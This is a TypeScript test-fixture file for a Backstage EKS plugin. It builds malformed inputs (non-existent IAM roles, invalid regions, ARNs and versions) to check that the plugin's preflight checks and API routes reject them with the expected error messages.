const MISSING = /must name an existing IAM role: .*no-such-role does not exist/;
for (const [target, field, patch] of [
  [
    'aws:eks:cluster:create',
    'clusterRoleArn',
    { clusterRoleArn: MISSING_ROLE },
  ],
  [
    'aws:eks:cluster:create',
    'nodeRoleArn',
    {
      nodeRoleArn: MISSING_ROLE,
      nodeGroup: {
        name: 'system',
        instanceTypes: ['m7i.large'],
        minSize: 1,
        maxSize: 2,
        desiredSize: 1,
      },
    },
  ],
  ['aws:eks:pod-identity:create', 'roleArn', { roleArn: MISSING_ROLE }],
  [
    'aws:eks:addon:install',
    'addons[0].podIdentity.roleArn',
    {
      addons: [
        { name: 'aws-ebs-csi-driver', podIdentity: { roleArn: MISSING_ROLE } },
      ],
    },
  ],
  ['aws:eks:karpenter:install', 'nodeRoleArn', { nodeRoleArn: MISSING_ROLE }],
] as [ActionId, string, Record<string, unknown>][]) {
  preflightCase(
    'role existence',
    target,
    field,
    'role that does not exist',
    patch,
    MISSING,
  );
}
preflightCase(
  'role existence',
  'aws:eks:cluster:create',
  'adminPrincipalArns[0]',
  'admin role that does not exist',
  { adminPrincipalArns: [MISSING_ROLE] },
  /must name an existing IAM role/,
);

// Instance types offered in the region.
for (const [label, type] of [
  ['not an instance type', 'banana.large'],
  ['not offered in eu-west-1', 'p4de.24xlarge'],
]) {
  preflightCase(
    'instance type offering',
    'aws:eks:cluster:create',
    'nodeGroup.instanceTypes[1]',
    label,
    {
      nodeGroup: {
        name: 'system',
        instanceTypes: ['m7i.large', type],
        minSize: 1,
        maxSize: 2,
        desiredSize: 1,
      },
    },
    /must be an EC2 instance type offered in eu-west-1: ".*" is not/,
  );
}

// Regions: unknown, and opt-in regions the account has not enabled.
for (const target of [
  'aws:eks:cluster:create',
  'aws:eks:addon:install',
  'aws:eks:karpenter:install',
  'aws:eks:pod-identity:create',
] as const) {
  preflightCase(
    'region',
    target,
    'region',
    'unknown region',
    { region: 'xx-nowhere-1' },
    /must be an AWS region \(EC2 DescribeRegions does not list "xx-nowhere-1"\)/,
  );
  preflightCase(
    'region',
    target,
    'region',
    'opt-in region not enabled',
    { region: 'af-south-1' },
    /must be a region enabled for account/,
  );
}

// Subnets.
preflightCase(
  'subnets',
  'aws:eks:cluster:create',
  'subnetIds',
  'empty list',
  { subnetIds: [] },
  /must list at least 2 subnets .*an empty list is not "find them"/,
);
preflightCase(
  'subnets',
  'aws:eks:cluster:create',
  'subnetIds',
  'subnets that do not exist',
  { subnetIds: ['subnet-0123456789abcdef0', 'subnet-0fedcba9876543210'] },
  /must name existing subnets in eu-west-1/,
);

// Kubernetes versions EKS does not offer.
for (const version of ['1.20', '1.99']) {
  preflightCase(
    'Kubernetes version',
    'aws:eks:cluster:create',
    'kubernetesVersion',
    `version ${version}`,
    { kubernetesVersion: version },
    new RegExp(`must be one EKS offers in eu-west-1: .*\\(got "${version}"\\)`),
  );
}

// Upgrade targets other than the next minor version after the cluster's
// (demo runs 1.33): EKS upgrades one minor version at a time, forward only;
// a rollback needs a cluster upgraded in place (demo was created at 1.33);
// both need the cluster.
for (const [version, rule] of [
  [
    '1.35',
    /must be the next minor version after the cluster's 1\.33 \(1\.34\), not 1\.35: EKS upgrades one minor version at a time/,
  ],
  [
    '1.32',
    /must be the next minor version after the cluster's 1\.33 \(1\.34\), not 1\.32: EKS upgrades only forward/,
  ],
] as [string, RegExp][]) {
  preflightCase(
    'upgrade and rollback preconditions',
    'aws:eks:cluster:upgrade',
    'targetVersion',
    `version ${version} on a 1.33 cluster`,
    { targetVersion: version },
    rule,
  );
}
preflightCase(
  'upgrade and rollback preconditions',
  'aws:eks:cluster:rollback',
  'clusterName',
  'a cluster created at its version, never upgraded',
  {},
  /cluster demo cannot be rolled back: EKS rolls back only a cluster upgraded in place to its current version \(1\.33\)/,
);
for (const target of [
  'aws:eks:cluster:upgrade',
  'aws:eks:cluster:rollback',
] as const) {
  preflightCase(
    'upgrade and rollback preconditions',
    target,
    'clusterName',
    'a cluster that does not exist',
    { clusterName: 'no-such-cluster' },
    /no EKS cluster "no-such-cluster" in account 000000000000, region eu-west-1/,
  );
}

// Add-on Pod Identity service accounts.
const ebsWith = (podIdentity: unknown) => ({
  addons: [{ name: 'aws-ebs-csi-driver', podIdentity }],
});
for (const [label, serviceAccount, rule] of [
  ['upper case and underscore', 'Ebs_CSI', /must be a DNS-1123 subdomain/],
  ['254 characters', oversized(254), TOO_LONG],
  ['trailing dot', 'ebs-csi.', /must be a DNS-1123 subdomain/],
  [
    'not declared by the add-on',
    'ebs-csi-node-sa',
    /must be a service account aws-ebs-csi-driver .* declares for Pod Identity: ebs-csi-controller-sa/,
  ],
] as [string, string, RegExp][]) {
  preflightCase(
    'add-on Pod Identity',
    'aws:eks:addon:install',
    'addons[0].podIdentity.serviceAccount',
    label,
    ebsWith({ roleArn: PODS_ROLE, serviceAccount }),
    rule,
  );
}
preflightCase(
  'add-on Pod Identity',
  'aws:eks:addon:install',
  'addons[0].podIdentity',
  'add-on without Pod Identity support',
  { addons: [{ name: 'coredns', podIdentity: 'recommended' }] },
  /cannot be used with coredns .* does not support EKS Pod Identity/,
);

// Karpenter chart versions.
for (const [label, chartVersion, rule] of [
  [
    'pre-v1 0.37',
    '0.37.0',
    /must be a Karpenter release .*1\.13\.0 to 1\.14\.1 .*0\.37\.0 is older than the supported minors/,
  ],
  [
    'older than the supported minors',
    '1.12.0',
    /must be a Karpenter release whose IAM policy, Kubernetes support and values this installer knows: 1\.13\.0 to 1\.14\.1 .*1\.12\.0 is older/,
  ],
  [
    'newer than the release table',
    '1.15.0',
    /1\.13\.0 to 1\.14\.1 .*1\.15\.0 is not in that table/,
  ],
] as [string, string, RegExp][]) {
  preflightCase(
    'Karpenter chart version',
    'aws:eks:karpenter:install',
    'chartVersion',
    label,
    { chartVersion },
    rule,
  );
}

/** Every bad action input. */
export const actionCases: readonly ActionCase[] = cases;

// ---------------------------------------------------------------------------
// Routes, read from the OpenAPI spec so that new routes and parameters are
// covered (a parameter without a valid value below fails the suite).

interface OpenApiParameter {
  name: string;
  in: 'path' | 'query';
  required?: boolean;
  schema?: {
    type?: string;
    pattern?: string;
    maxLength?: number;
    enum?: string[];
  };
}

/** One route of the spec with its resolved parameters. */
export interface OpenApiRoute {
  /** `GET /addons/{name}/configuration` */
  id: string;
  method: string;
  path: string;
  parameters: OpenApiParameter[];
}

/** The routes in plugins/eks-backend/src/schema/openapi.yaml. */
export function openApiRoutes(): OpenApiRoute[] {
  const specPath = require
    .resolve('@backstage-eks/plugin-eks-backend/package.json')
    .replace(/package\.json$/, 'src/schema/openapi.yaml');
  const spec = parseYaml(readFileSync(specPath, 'utf8'));
  const resolve = (p: any): OpenApiParameter =>
    p.$ref
      ? spec.components.parameters[p.$ref.split('/').at(-1)]
      : (p as OpenApiParameter);
  return Object.entries<Record<string, any>>(spec.paths).flatMap(
    ([path, operations]) =>
      Object.entries(operations).map(([method, op]) => ({
        id: `${method.toUpperCase()} ${path}`,
        method,
        path,
        parameters: (op.parameters ?? []).map(resolve),
      })),
  );
}

/** A valid value of each parameter the spec names. */
export const validParameterValues: Record<string, string> = {
  namespace: 'default',
  kind: 'resource',
  name: 'demo',
  refresh: 'false',
  arn: `arn:aws:eks:eu-west-1:${ACCOUNT}:cluster/demo`,
  region: 'eu-west-1',
  accountId: ACCOUNT,
  kubernetesVersion: '1.33',
  addonName: 'coredns',
  version: 'latest',
  vpcId: 'vpc-0123456789abcdef0',
  search: 'demo',
};

/** The rule the 400 of each parameter must state. */
export const parameterRules: Record<string, RegExp> = {
  refresh: /must be "true" or "false"/,
  arn: /must be an EKS cluster ARN/,
  region: /must be an AWS region/,
  accountId: /must be a 12-digit AWS account id/,
  kubernetesVersion: /must be a Kubernetes minor version/,
  addonName: /must (be an EKS add-on name|be at most 100 characters)/,
  version:
    /must (be "latest", "default" or an exact version|be at most 100 characters)/,
  namespace: /must be an entity namespace/,
  kind: /must be an entity kind/,
  name: /must be an entity name/,
  vpcId: /must be a VPC id/,
  search:
    /must (be part of an IAM role or user name or ARN|be at most 200 characters)/,
};

/** Parameters whose rule differs per route. */
const routeParameterRules: Record<string, Record<string, RegExp>> = {
  '/addons/{name}/configuration': { name: parameterRules.addonName },
};

/** The rule of a parameter of a route. */
export function ruleOf(route: OpenApiRoute, name: string): RegExp | undefined {
  return routeParameterRules[route.path]?.[name] ?? parameterRules[name];
}

/** Path parameters whose valid value differs per route. */
const validPathValues: Record<string, Record<string, string>> = {
  '/addons/{name}/configuration': { name: 'coredns' },
};

/** The request of a route with every parameter valid, then `patch` applied. */
export function routeRequest(
  route: OpenApiRoute,
  patch: { path?: Record<string, string>; query?: Record<string, any> } = {},
  omit?: string,
) {
  const values = { ...validParameterValues, ...validPathValues[route.path] };
  let path = route.path;
  const query: Record<string, any> = {};
  for (const p of route.parameters) {
    if (p.in === 'path') {
      const value = patch.path?.[p.name] ?? values[p.name];
      path = path.replace(`{${p.name}}`, encodeURIComponent(value));
    } else if (p.name !== omit && (p.required || patch.query?.[p.name])) {
      query[p.name] = values[p.name];
    }
  }
  return { path: `/api/eks${path}`, query: { ...query, ...patch.query } };
}

const badArns: [string, string][] = [
  ['not an ARN', 'demo'],
  ['IAM role ARN', `arn:aws:iam::${ACCOUNT}:role/demo`],
  ['short account', 'arn:aws:eks:eu-west-1:0000:cluster/demo'],
  ['bad region', `arn:aws:eks:mars-1:${ACCOUNT}:cluster/demo`],
  [
    'region outside the partition',
    `arn:aws-cn:eks:eu-west-1:${ACCOUNT}:cluster/demo`,
  ],
  [
    'China region in the aws partition',
    `arn:aws:eks:cn-north-1:${ACCOUNT}:cluster/demo`,
  ],
  ['nodegroup ARN', `arn:aws:eks:eu-west-1:${ACCOUNT}:nodegroup/demo/ng/1`],
  ['bad cluster name', `arn:aws:eks:eu-west-1:${ACCOUNT}:cluster/-demo`],
  ['traversal', `arn:aws:eks:eu-west-1:${ACCOUNT}:cluster/../demo`],
  ['zero-width space', `arn:aws:eks:eu-west-1:${ACCOUNT}:cluster/de\u200bmo`],
  ['oversized', `arn:aws:eks:eu-west-1:${ACCOUNT}:cluster/${oversized(200)}`],
];

/** Every bad route request, generated from the spec's parameters. */
export function routeCases(routes = openApiRoutes()): RouteCase[] {
  const result: RouteCase[] = [];
  for (const route of routes) {
    for (const p of route.parameters) {
      // A parameter without a rule gets cases that cannot pass.
      const rule = ruleOf(route, p.name) ?? /(?!)/;
      const push = (label: string, value: string | string[], r = rule) => {
        const patch =
          p.in === 'path'
            ? { path: { [p.name]: value as string } }
            : { query: { [p.name]: value } };
        result.push({
          target: route.id,
          field: p.name,
          label,
          ...routeRequest(route, patch),
          rule: r,
        });
      };
      if (p.required && p.in === 'query') {
        result.push({
          target: route.id,
          field: p.name,
          label: 'missing',
          ...routeRequest(route, {}, p.name),
          rule: /is required/,
        });
      }
      if (p.in === 'query') {
        push(
          'given twice',
          [validParameterValues[p.name], validParameterValues[p.name]],
          /must be given once/,
        );
      }
      if (p.schema?.enum) {
        for (const value of ['yes', 'TRUE', '1', ' true']) {
          push(JSON.stringify(value), value);
        }
      } else if (p.schema?.pattern) {
        const pattern = new RegExp(p.schema.pattern);
        const maxLength = p.schema.maxLength ?? Infinity;
        for (const [label, value] of [
          ...hostileStrings.filter(([, v]) => v !== ''),
          ['oversized', oversized(300)],
        ]) {
          if (!pattern.test(value) || value.length > maxLength) {
            push(label, value);
          }
        }
      } else if (p.name === 'arn') {
        for (const [label, value] of badArns) {
          push(label, value);
        }
      }
    }
  }
  return result;
}
